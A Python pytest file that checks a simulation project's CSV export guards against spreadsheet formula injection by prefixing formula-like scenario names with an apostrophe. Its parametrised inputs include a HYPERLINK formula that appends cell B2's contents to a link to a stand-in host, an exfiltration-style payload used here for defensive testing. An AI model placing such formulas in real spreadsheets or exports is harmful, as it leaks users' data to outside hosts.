"""The CSV download: a scenario name that looks like a formula reaches the spreadsheet as text."""

from __future__ import annotations

import csv
import io

import msgspec
import pytest

from caisse.simulations.export import forecasts_csv
from simulation.run import simulate
from simulation.scenario import decode_scenario


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        (
            '=HYPERLINK("https://example.org/?"&B2;"Budget")',
            '\'=HYPERLINK("https://example.org/?"&B2;"Budget")',
        ),
        ("+33 budget", "'+33 budget"),
        ("-10 %", "'-10 %"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("Budget 2027", "Budget 2027"),
    ],
)
def test_a_name_like_a_formula_is_written_as_text(name: str, cell: str) -> None:
    scenario = decode_scenario(
        {
            "scenario": {"name": "x", "start": "2027-01", "months": 2, "paths": 4, "seed": 3},
            "contribution": {"preset": "gironde"},
            "allocation": {"preset": "gironde"},
            "funding": {"initial_reserve": -1000.0},
        }
    )
    result = msgspec.structs.replace(simulate(scenario).summary(), scenario=name)
    rows = list(csv.DictReader(io.StringIO(forecasts_csv([result]))))
    assert [row["scenario"] for row in rows] == [cell, cell]
    assert float(rows[0]["reserve_mean"]) < 0  # numbers stay numbers, negative ones too
